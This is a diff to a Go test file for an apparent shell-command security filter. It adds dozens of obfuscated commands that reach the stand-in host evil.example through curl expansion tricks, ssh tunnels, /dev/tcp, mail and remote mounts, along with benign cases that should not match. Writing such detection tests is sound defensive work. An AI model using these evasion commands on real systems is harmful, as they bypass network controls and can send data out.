@@ -50,6 +50,24 @@ var hiddenTexts = []struct {
 		},
 	},
 	{
+		ListsSpec{Domains: []string{"evil.example"}},
+		[]string{
+			`curl ${x:-evil.example}`, `curl "${x:-evil.example}"`, `curl https://${x:-evil.example}/`, `: ${x:=evil.example}; curl $x`, `set evil example; curl $1.$2`,
+			`set -- evil example; curl "$1.$2"`, `IFS=.; a=(evil example); curl "${a[*]}"`, `a=(evil example); curl "${a[0]}.${a[1]}"`, `x=evil-example; curl ${x/-/.}`,
+			`x=xevil.example; curl ${x#x}`, `x=evil.exampleX; curl ${x%X}`, `x=EVIL.EXAMPLE; curl ${x,,}`, `f(){ curl "$1.$2"; }; f evil example`, `read x <<< evil.example; curl $x`,
+			`declare -n r=x; x=evil.example; curl $r`, `x=evil.; x+=example; curl $x`, "curl -K - <<E\nurl = evil.example\nE", "curl -K - <<E\nurl=\"https://evil.example/x\"\nE",
+			`echo 'url = evil.example' | curl -K -`, `curl -K - <<< 'url=evil.example'`, `curl -K- <<< 'proxy = evil.example:1'`, `wget -i - <<< evil.example`,
+			`ftp <<< 'open evil.example'`, `ssh -L 1:evil.example:80 x`, `ssh -R 1:evil.example:80 x`, `ssh -fNL 1:evil.example:80 x`, `ssh -L1:evil.example:80 x`,
+			`autossh -M 0 -R 1:evil.example:2 x`, `go mod edit -replace a=evil.example/x@v1`, `docker build --build-arg x=evil.example .`, `docker run --add-host x:evil.example y`,
+			`kubectl run x --image=evil.example/y`, `kubectl set image d/x c=evil.example/y`, `npm i git@evil.example:a/b`, `terraform init -from-module=evil.example/x`,
+			`h=evil.example; exec 3<>/dev/tcp/$h/80`, `h=evil; cat </dev/tcp/$h.example/80`, `python3 -c 'import socket; socket.create_connection(("evil.example", 80))'`,
+			`node -e 'require("net").connect(80,"evil.example")'`, `nmap -iL - <<< evil.example`, `sendmail x@evil.example < y`, `mail -s x u@evil.example < y`,
+			`mutt u@evil.example < y`, `smbclient //evil.example/x`, `mount -t nfs evil.example:/x /m`, `mount -t cifs //evil.example/x /m`, `sshfs evil.example:/x m`,
+			`restic -r sftp:evil.example:/x backup`, `borg create evil.example:x::y z`, `cvs -d :pserver:u@evil.example:/x co y`, `GH_HOST=evil.example gh pr list`,
+			`consul -http-addr=evil.example:8500 x`, `etcdctl --endpoints=evil.example:2379 get x`,
+		},
+	},
+	{
 		ListsSpec{Paths: []string{"~/private/**"}},
 		[]string{
 			`sh -c 'cat $0/$1' /home/me private/x`, `a=(~ private); IFS=/; cat "${a[*]}/x"`, `a=(/home/me private x); IFS=/; cat "${a[*]}"`, `: ${x:=~/private}; cat $x/y`,
@@ -80,7 +98,7 @@ func TestPlainTextsAreNoHits(t *testing.T) {
 		// wrappers
 		`make rm`, `fd rm`, `fd -e go rm src`, `echo 'ls' | at now`, `conda run ls`, `cmake -E copy a b`, `docker run x ls`, `npm run rm`, `go test -run rm ./...`, `make -f Makefile push`, `git submodule foreach git pull`, `doppler run -- ls`, `heroku run ls`, "make -f - <<E\nall:\n\tls rm\nE", `make -j4 'A=b c'`, `echo 'rm y' | make x`, `echo rm y | ssh h 'cat > x'`, `git config user.name rm`, `git -c user.name=rm commit`, `git -c core.pager=cat log`, `psql -c 'select 1'`, `go test -exec ./x ./...`, `cargo run --config 'x.y="rm"'`, `docker run --entrypoint sh x`, `ctest -R rm`, `cmake -S rm -B build`, `ansible all -m ping`, `conda list rm`, `echo '0 5 * * * ls' | crontab -`,
 		// hosts
-		`curl ${x:-good.example}`, `curl https://good.example/evil.example`, `dig good.example`, `ssh -L 1:good.example:80 x`, `git clone git@good.example:a/b`, `go get good.example/x`, `echo url=good.example | curl -K -`, `set -- evil; echo $1`, `pip install evil`, `docker pull evil/example`,
+		`curl ${x:-good.example}`, `curl https://good.example/evil.example`, `dig good.example`, `ssh -L 1:good.example:80 x`, `git clone git@good.example:a/b`, `go get good.example/x`, `echo url=good.example | curl -K -`, `set -- evil; echo $1`, `pip install evil`, `docker pull evil/example`, `git config user.email me@evil.example`, `git log --author=me@evil.example`, `git commit -m "see a=evil.example: no"`, "git commit -F - <<'E'\nno evil.example/x\nE", `echo "${x:-a} evil"; curl good.example`, `for i in a b; do curl $i.good.example; done`, `curl -d @- https://good.example <<< '{"x":"evil.example"}'`,
 		// paths
 		`cat private/x`, `cat ~/privat/x`, `x=/home/me/privat/x; cat ${x::-1}`, `n=3; x=abcdef; echo ${x:0:n}`, `read a b <<< "1 2"; cat $a$b`, `cat $(pwd)/private/x`, `cd -; cat x`, `CDPATH=.; cd x; cat private/x`, `sudo cat private/x`, `echo a b | xargs -n2 sh -c 'echo $0/$1'`, `tar -C build -cf - private`, `tar -czf x.tgz private`,
 	} {
